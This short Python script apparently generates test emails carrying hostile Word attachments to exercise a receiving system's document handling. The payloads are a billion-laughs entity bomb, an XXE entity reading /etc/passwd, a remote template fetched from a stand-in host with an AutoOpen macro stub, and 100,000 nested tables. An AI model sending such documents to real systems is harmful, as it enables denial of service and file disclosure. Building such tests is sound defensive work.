"""Word and OpenDocument that would load files, expand names a thousandfold or nest without end."""
from make import attached, multi, text, zipped
import make

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = ("<!DOCTYPE w [<!ENTITY a 'ha'>" + "".join("<!ENTITY %s '%s'>" % (chr(98 + i), ("&%s;" % chr(97 + i)) * 10) for i in range(9)) + "]>")


def word(head, body):
    return zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "%s<w:document %s><w:body>%s</w:body></w:document>" % (head, W, body),
                   "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="t" Type="attachedTemplate" TargetMode="External" '
                   'Target="http://192.0.2.1/t.dotm"/></Relationships>', "word/vbaProject.bin": "Sub AutoOpen()"})


kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
plain = "<w:p><w:r><w:t>1. Every member of the society is a worker.%s</w:t></w:r></w:p>"
make.send(multi(text("We would like to join."), attached(word("", plain % ""), kind, "template.docx"),
                attached(word(LAUGHS, plain % "&j;"), kind, "laughs.docx"),
                attached(word("<!DOCTYPE w [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", plain % "&x;"), kind, "outside.docx"),
                attached(word("", "<w:tbl><w:tr><w:tc>" * 100000), kind, "deep.docx")))
